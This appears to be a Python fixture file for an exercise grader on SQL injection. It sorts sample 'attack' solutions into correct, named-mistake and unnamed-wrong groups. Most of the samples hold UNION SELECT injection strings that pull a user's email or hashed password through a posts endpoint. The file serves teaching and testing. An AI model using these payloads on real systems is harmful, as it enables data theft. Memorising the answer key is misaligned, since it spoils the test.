from learners import Learners

LEARNERS = Learners(
    right=(
        """
def attack(api):
    name = "x' Union Select 1, email, 3, 4, 5 from users where username='keiko"
    return api.get("/users/" + name + "/posts/").json()[0]["content"]
""",
        """
from urllib.parse import quote


def attack(api):
    name = "' union select id, email, created_at, id, username from users where id = '5"
    answer = api.get(f"/users/{quote(name)}/posts/")
    return answer.json()[-1]["content"]
""",
        """
def attack(api):
    name = "' UNIOn SELECT 1, 2, 3, 4, email FROM users WHERE username LIKE 'keik%"
    [row] = api.get(f"/users/{name}/posts/").json()
    return row["username"]
""",
        """
import pandas as pd


def attack(api):
    name = "' union all select id, email, email, id, username from users where '' = '"
    frame = pd.DataFrame(api.get(f"/users/{name}/posts/").json())
    return frame.set_index("username").loc["keiko", "content"]
""",
        """
def attack(api):
    name = "' uNiOn select id, email, 0, 0, '' from users where username > 'jonas' and id = '5"
    for row in api.get(f"/users/{name}/posts/").json():
        if "@" in row["content"]:
            return row["content"]
""",
    ),
    named={
        """
def attack(api):
    typed = "' UNION SELECT id, email, hashed_password, id, username FROM users WHERE id = '5"
    return api.get(f"/users/{typed}/posts/").json()[0]["content"]
""": "capitals",
        """
def attack(api):
    typed = "' union select id, email, email, id, username from users --"
    rows = api.get(f"/users/{typed}/posts/").json()
    return [row["content"] for row in rows if row["username"] == "keiko"][0]
""": "a comment",
        """
def attack(api):
    name = "' union select id, email, created_at, id, username from users"
    name += " where username = 'keiko' or '' = '"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""": "everybody's addresses",
        """
def attack(api):
    name = "' union select username, email from users where username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["email"]
""": "other columns",
    },
    unnamed=(
        """
def attack(api):
    return "keiko@example.org"
""",
        """
def attack(api):
    name = "' union select id, email, email, id, username from users where username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()
""",
        """
def attack(api):
    name = "' union select id, hashed_password, email, id, username from users where id = '5"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
        """
def attack(api):
    return api.get("/users/keiko").json()["email"]
""",
        """
def attack(api):
    name = "' union select id, mail, mail, id, username from users where username = 'keiko"
    return api.get(f"/users/{name}/posts/").json()[0]["content"]
""",
        """
def attack(api):
    name = "' union select id, email, email, id, username from users where username = 'keiko"
    print(api.get(f"/users/{name}/posts/").json()[0]["content"])
""",
        'answer = "keiko@example.org"',
    ),
)
